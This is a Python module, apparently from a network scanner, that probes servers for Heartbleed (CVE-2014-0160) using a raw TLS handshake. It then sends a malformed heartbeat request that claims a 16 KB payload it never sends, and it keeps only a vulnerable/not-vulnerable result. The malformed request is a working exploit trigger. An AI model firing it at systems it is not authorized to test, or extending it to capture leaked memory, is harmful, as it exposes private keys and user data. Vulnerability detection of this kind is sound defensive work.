"""Heartbeat over-read check (CVE-2014-0160).

Speaks just enough raw TLS to get a server to ServerHelloDone, then sends a
heartbeat request whose declared payload is longer than what was sent. A
patched server drops it; a vulnerable one echoes back memory. Only the
yes/no signal is kept.
"""

from __future__ import annotations

import asyncio
import logging
import os
import struct
import time

from .classify import CODE_CONNECT_ERROR, ERR_IO_TIMEOUT
from .models import HeartbleedResult, ProbeError, ProbeRequest
from .probe import DEFAULT_TIMEOUT
from .utils import is_ip_literal

logger = logging.getLogger(__name__)

CODE_HANDSHAKE_ERROR = "HANDSHAKEERROR"

RECORD_ALERT = 0x15
RECORD_HANDSHAKE = 0x16
RECORD_HEARTBEAT = 0x18

HANDSHAKE_CLIENT_HELLO = 0x01
HANDSHAKE_SERVER_HELLO_DONE = 0x0E

TLS_1_1 = 0x0302

EXT_SERVER_NAME = 0x0000
EXT_SUPPORTED_GROUPS = 0x000A
EXT_EC_POINT_FORMATS = 0x000B
EXT_HEARTBEAT = 0x000F

# what OpenSSL 1.0.1 offered by default, so affected servers find a match
CIPHER_SUITES = (
    0xC014, 0xC00A, 0xC022, 0xC021, 0x0039, 0x0038, 0x0088, 0x0087,
    0xC00F, 0xC005, 0x0035, 0x0084, 0xC012, 0xC008, 0xC01C, 0xC01B,
    0x0016, 0x0013, 0xC00D, 0xC003, 0x000A, 0xC013, 0xC009, 0xC01F,
    0xC01E, 0x0033, 0x0032, 0x009A, 0x0099, 0x0045, 0x0044, 0xC00E,
    0xC004, 0x002F, 0x0096, 0x0041, 0xC011, 0xC007, 0xC00C, 0xC002,
    0x0005, 0x0004, 0x0015, 0x0012, 0x0009, 0x0014, 0x0011, 0x0008,
    0x0006, 0x0003, 0x00FF,
)
SUPPORTED_GROUPS = (0x0017, 0x0018, 0x0019)

HEARTBEAT_PAYLOAD_CLAIM = 0x4000

# patched servers answer a bogus heartbeat with silence
HEARTBEAT_WAIT = 3.0


class HandshakeError(Exception):
    pass


def _record(content_type: int, body: bytes, version: int = TLS_1_1) -> bytes:
    return struct.pack("!BHH", content_type, version, len(body)) + body


def _extension(ext_type: int, data: bytes) -> bytes:
    return struct.pack("!HH", ext_type, len(data)) + data


def _server_name_ext(hostname: str) -> bytes:
    name = hostname.encode("idna")
    entry = struct.pack("!BH", 0, len(name)) + name
    return _extension(EXT_SERVER_NAME, struct.pack("!H", len(entry)) + entry)


def build_client_hello(hostname: str = "") -> bytes:
    """TLS 1.1 ClientHello record advertising heartbeat (peer_allowed_to_send)."""
    suites = b"".join(struct.pack("!H", s) for s in CIPHER_SUITES)
    groups = b"".join(struct.pack("!H", g) for g in SUPPORTED_GROUPS)

    extensions = b""
    if hostname and not is_ip_literal(hostname):
        try:
            extensions += _server_name_ext(hostname)
        except UnicodeError:
            logger.debug("not sending SNI for %r", hostname)
    extensions += _extension(EXT_EC_POINT_FORMATS, b"\x03\x00\x01\x02")
    extensions += _extension(EXT_SUPPORTED_GROUPS, struct.pack("!H", len(groups)) + groups)
    extensions += _extension(EXT_HEARTBEAT, b"\x01")

    body = (
        struct.pack("!H", TLS_1_1)
        + os.urandom(32)
        + b"\x00"  # no session id
        + struct.pack("!H", len(suites)) + suites
        + b"\x01\x00"  # null compression only
        + struct.pack("!H", len(extensions)) + extensions
    )
    message = struct.pack("!B", HANDSHAKE_CLIENT_HELLO) + len(body).to_bytes(3, "big") + body
    return _record(RECORD_HANDSHAKE, message, version=0x0301)


def build_heartbeat_request() -> bytes:
    # type=request, claimed payload length, no payload actually sent
    return _record(RECORD_HEARTBEAT, struct.pack("!BH", 1, HEARTBEAT_PAYLOAD_CLAIM))


async def _read_record(reader: asyncio.StreamReader) -> tuple[int, bytes]:
    header = await reader.readexactly(5)
    content_type, _, length = struct.unpack("!BHH", header)
    return content_type, await reader.readexactly(length)


async def _read_until_hello_done(reader: asyncio.StreamReader) -> None:
    buf = b""
    while True:
        try:
            content_type, body = await _read_record(reader)
        except asyncio.IncompleteReadError as e:
            raise HandshakeError("connection closed during handshake") from e
        if content_type == RECORD_ALERT:
            raise HandshakeError("server sent alert during handshake")
        if content_type != RECORD_HANDSHAKE:
            continue

        # handshake messages can span records
        buf += body
        while len(buf) >= 4:
            msg_type = buf[0]
            msg_len = int.from_bytes(buf[1:4], "big")
            if len(buf) < 4 + msg_len:
                break
            if msg_type == HANDSHAKE_SERVER_HELLO_DONE:
                return
            buf = buf[4 + msg_len:]


async def _heartbeat_leaks(reader: asyncio.StreamReader, wait: float) -> bool:
    while True:
        try:
            content_type, body = await asyncio.wait_for(_read_record(reader), timeout=wait)
        except (asyncio.TimeoutError, asyncio.IncompleteReadError):
            return False
        if content_type == RECORD_HEARTBEAT:
            # anything beyond the 3-byte header is memory we never sent
            return len(body) > 3
        if content_type == RECORD_ALERT:
            return False


class HeartbleedProber:
    kind = "heartbleed"

    def __init__(self, *, default_timeout: int = DEFAULT_TIMEOUT, heartbeat_wait: float = HEARTBEAT_WAIT) -> None:
        if default_timeout <= 0:
            raise ValueError("default_timeout must be positive")
        self.default_timeout = default_timeout
        self.heartbeat_wait = heartbeat_wait

    async def _check(self, request: ProbeRequest, timeout: int) -> bool:
        reader, writer = await asyncio.wait_for(
            asyncio.open_connection(request.host, request.port), timeout=timeout
        )
        try:
            writer.write(build_client_hello(request.hostname))
            await writer.drain()
            await asyncio.wait_for(_read_until_hello_done(reader), timeout=timeout)

            writer.write(build_heartbeat_request())
            await writer.drain()
            return await _heartbeat_leaks(reader, self.heartbeat_wait)
        finally:
            writer.close()
            try:
                await asyncio.wait_for(writer.wait_closed(), timeout=1.0)
            except (asyncio.TimeoutError, OSError):
                pass

    async def probe(self, request: ProbeRequest, *, started: float | None = None) -> HeartbleedResult:
        if started is None:
            started = time.monotonic()
        timeout = request.with_default_timeout(self.default_timeout).timeout
        result = HeartbleedResult.for_request(request)

        try:
            result.vulnerable = await self._check(request, timeout)
        except (asyncio.TimeoutError, TimeoutError):
            result.error = ERR_IO_TIMEOUT
        except HandshakeError as e:
            result.error = ProbeError(code=CODE_HANDSHAKE_ERROR, message=str(e))
        except (OSError, ValueError, OverflowError) as e:
            result.error = ProbeError(code=CODE_CONNECT_ERROR, message=str(e) or e.__class__.__name__)

        result.duration = time.monotonic() - started
        if result.error is not None:
            logger.info(
                "%s:%d (%s) Error:%s (%s)",
                request.hostname, request.port, request.host,
                result.error.message, result.error.code,
            )
        elif result.vulnerable:
            logger.warning("%s:%d (%s) is vulnerable to heartbleed", request.hostname, request.port, request.host)
        return result
